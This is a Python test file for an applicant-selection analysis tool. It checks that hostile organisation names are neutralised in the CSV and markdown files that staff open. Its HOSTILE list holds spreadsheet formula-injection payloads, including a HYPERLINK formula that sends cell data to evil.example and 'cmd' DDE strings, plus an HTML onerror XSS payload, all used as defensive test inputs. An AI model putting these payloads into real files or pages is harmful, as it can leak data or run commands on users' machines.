"""Organisation names that are formulas or HTML stay inert in every file staff open."""

from __future__ import annotations

import copy
import csv
import io

import pandas as pd
import pytest

from analysis import selection
from analysis.config import Config, load_config
from analysis.intake.year import _write_names
from analysis.selection.audit import audit_files
from analysis.selection.explain import write_restricted
from analysis.spreadsheet import markdown_text, neutralise_cell, neutralise_frame
from example_pools import example_applicants

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '<img src=x onerror="alert(1)">',
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("value", HOSTILE[:5])
def test_formula_cells_get_a_leading_quote(value):
    assert neutralise_cell(value) == "'" + value


def test_a_carriage_return_becomes_a_quoted_line_feed():
    assert neutralise_cell("\r=1+1") == "'\n=1+1"
    assert neutralise_cell("Arts\r\nTrust") == "Arts\nTrust"


@pytest.mark.parametrize("value", ["-3.5", "+4", "12", "1e-6", "Arts Trust", "", "O12ab"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise_cell(value) == value


def test_only_text_columns_change_numbers_stay_numbers():
    frame = pd.DataFrame({"name": ["=1+1", "ok"], "change": [-3, 4], "share": [-0.5, 0.25]})
    out = neutralise_frame(frame)
    assert list(out["name"]) == ["'=1+1", "ok"]
    assert out["change"].dtype == frame["change"].dtype and list(out["change"]) == [-3, 4]
    assert "-0.5" in out.to_csv(index=False)
    assert list(frame["name"]) == ["=1+1", "ok"]  # the caller's frame is not changed


def test_markdown_text_has_no_live_html_or_markup():
    text = markdown_text('<img src=x onerror="alert(1)"> [click](http://x) *b*')
    assert "<img" not in text and "&lt;img" in text
    assert "\\[click\\]" in text and "\\*b\\*" in text
    assert markdown_text("# heading").startswith("\\#")


@pytest.fixture(scope="module")
def hostile_result():
    applicants = example_applicants(40, seed=11)
    base = load_config(2024)
    data = copy.deepcopy(base.data)
    data["selection"].update({"panel_size": 8, "min_high_ambition": 2, "stability_check": False})
    return applicants, selection.select(applicants, Config(year=2024, data=data, sources=base.sources))


def test_restricted_files_neutralise_hostile_organisation_names(hostile_result, tmp_path):
    applicants, result = hostile_result
    names = pd.DataFrame(
        {
            "org_id": applicants["org_id"],
            "org_name": [HOSTILE[i % len(HOSTILE)] for i in range(len(applicants))],
        }
    )
    _write_names(names, tmp_path)
    organisations = (tmp_path / "organisations.csv").read_text()
    written = write_restricted(result, tmp_path, tmp_path / "organisations.csv")
    for path in [tmp_path / "organisations.csv", *written]:
        text = path.read_bytes().decode("utf-8")  # keep a carriage return inside its quoted cell
        if path.suffix == ".csv":
            bad = [c for c in _cells(text) if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
            assert not bad, f"{path.name}: {bad[:3]}"
        if path.name == "explanations.md":
            assert "<img" not in text and "onerror" in text
    assert "'=HYPERLINK" in organisations and "'+cmd|" in organisations
    reserves = pd.read_csv(tmp_path / "selection" / "reserves.csv", dtype=str, keep_default_na=False)
    assert set(reserves["org_name"]) <= {neutralise_cell(h) for h in HOSTILE}


def test_the_audit_pack_is_unchanged_by_neutralising(hostile_result):
    """Pseudonyms and numbers never start with a formula character: the public pack is as before."""
    _, result = hostile_result
    for name, text in audit_files(result).items():
        if name.endswith(".csv"):
            assert not [c for c in _cells(text) if c.startswith("'")], name
